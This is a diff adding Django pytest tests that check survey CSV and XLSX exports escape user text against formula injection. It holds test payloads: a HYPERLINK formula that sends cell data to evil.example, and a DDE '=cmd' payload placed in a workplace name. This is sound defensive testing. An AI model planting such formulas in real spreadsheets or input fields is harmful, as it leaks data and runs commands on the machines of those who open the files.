@@ -1,0 +1,103 @@
+"""Cells that run as formulas (issue 13, item 1): every text a person typed is written as
+text in every CSV and XLSX the app makes, numbers stay numbers, and an export imports
+unchanged."""
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth.models import Group
+from openpyxl import load_workbook
+
+from barometer.models import Indicator
+from surveys.models import Answer, Invitation, Question, Response, Round, RoundKind, Workplace, WorkplaceType
+from surveys.services.response_files import csv_lines, export_rows, import_responses
+from surveys.tabular.writing import neutralise, restore
+from tests.builders import ResponseBuilder, innovator
+
+FACTORS = ("safe_operations", "mistakes", "internal_collaboration", "technology", "economy", "employee_involvement",
+           "user_involvement", "political")  # fmt: skip
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"See report")'
+
+
+@pytest.fixture
+def analyst(django_user_model):
+    user = django_user_model.objects.create_user("analytiker", password="correct-horse-battery")
+    user.groups.add(Group.objects.get(name="Analytikere"))
+    return user
+
+
+def _with_description(national_round, municipality, text: str) -> Response:
+    response = ResponseBuilder(national_round).submitted(
+        workplace_type=WorkplaceType.PRIMARY_SCHOOL,
+        municipality=municipality,
+        answers=innovator(**{f"factor_{factor}": ["4"] for factor in FACTORS}),
+    )
+    question = Question.objects.get(question_set=national_round.question_set, code="newest_description")
+    Answer.objects.create(response=response, question=question, text_value=text)
+    return response
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+47 1", "-5 %", "@SUM(A1)", "\tx", "'=already quoted", "'plain", "plain"])
+def test_neutralising_is_undone_exactly(text):
+    assert restore(neutralise(text)) == text
+    assert neutralise(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+
+
+def test_raw_export_writes_a_formula_as_text_in_csv_and_xlsx(client, analyst, national_round, municipality):
+    _with_description(national_round, municipality, FORMULA)
+    client.force_login(analyst)
+    text = b"".join(client.get(f"/statistikk/data/svar.csv?round={national_round.slug}").streaming_content).decode()
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["newest_description"] == "'" + FORMULA
+    assert row["employees"] == "20"  # a number stays a number
+
+    xlsx = client.get(f"/statistikk/data/svar.xlsx?round={national_round.slug}").getvalue()
+    workbook = load_workbook(io.BytesIO(xlsx))
+    sheet = workbook["svar"]
+    header = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("newest_description") + 1)
+    assert cell.data_type == "s" and cell.value == FORMULA
+    assert sheet.cell(row=2, column=header.index("employees") + 1).data_type == "n"
+    assert all(c.data_type != "f" for row in workbook["kodebok"].iter_rows() for c in row)
+
+
+def test_codebook_says_how_texts_are_neutralised(client, analyst, national_round):
+    client.force_login(analyst)
+    text = b"".join(client.get(f"/statistikk/data/kodebok.csv?round={national_round.slug}").streaming_content).decode()
+    note = list(csv.reader(io.StringIO(text)))[-1]
+    assert note[2] == "note" and "The import removes it again" in note[6]
+
+
+def test_export_then_import_leaves_a_text_starting_with_minus_unchanged(national_round, municipality, barometer_data):
+    _with_description(national_round, municipality, "-20 % sykefravær, =målt")
+    exported = "".join(csv_lines(export_rows(national_round)))
+    target = Round.objects.create(
+        slug="kopi", name="Kopi", kind=RoundKind.NATIONAL, question_set=national_round.question_set,
+        opens_at=national_round.opens_at, closes_at=national_round.closes_at,
+    )  # fmt: skip
+    import_responses(target, io.StringIO(exported))
+    imported = Answer.objects.get(response__round=target, question__code="newest_description")
+    assert imported.text_value == "-20 % sykefravær, =målt"
+
+
+def test_aggregate_exports_write_texts_as_text(client, analyst, national_round, barometer_data, municipality):
+    Indicator.objects.filter(pk=Indicator.objects.order_by("pk").first().pk).update(name_nb=FORMULA)
+    client.force_login(analyst)
+    text = client.get(f"/statistikk/eksport.csv?round={national_round.pk}").content.decode()
+    assert "'" + FORMULA in {row["name"] for row in csv.DictReader(io.StringIO(text))}
+    workbook = load_workbook(io.BytesIO(client.get(f"/statistikk/eksport.xlsx?round={national_round.pk}").content))
+    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+    assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)
+    assert not any(cell.data_type == "f" for cell in cells)
+
+
+def test_non_respondent_list_writes_a_workplace_name_as_text(admin_client, national_round, municipality):
+    workplace = Workplace.objects.create(
+        name="=cmd|' /C calc'!A0", workplace_type=WorkplaceType.PRIMARY_SCHOOL, municipality=municipality
+    )
+    Invitation.objects.create(round=national_round, workplace=workplace, email="leder@example.invalid")
+    text = admin_client.get(f"/statistikk/runder/{national_round.slug}/ikke-svart.csv").content.decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][0] == "'=cmd|' /C calc'!A0"
+    assert rows[1][4] == "leder@example.invalid"
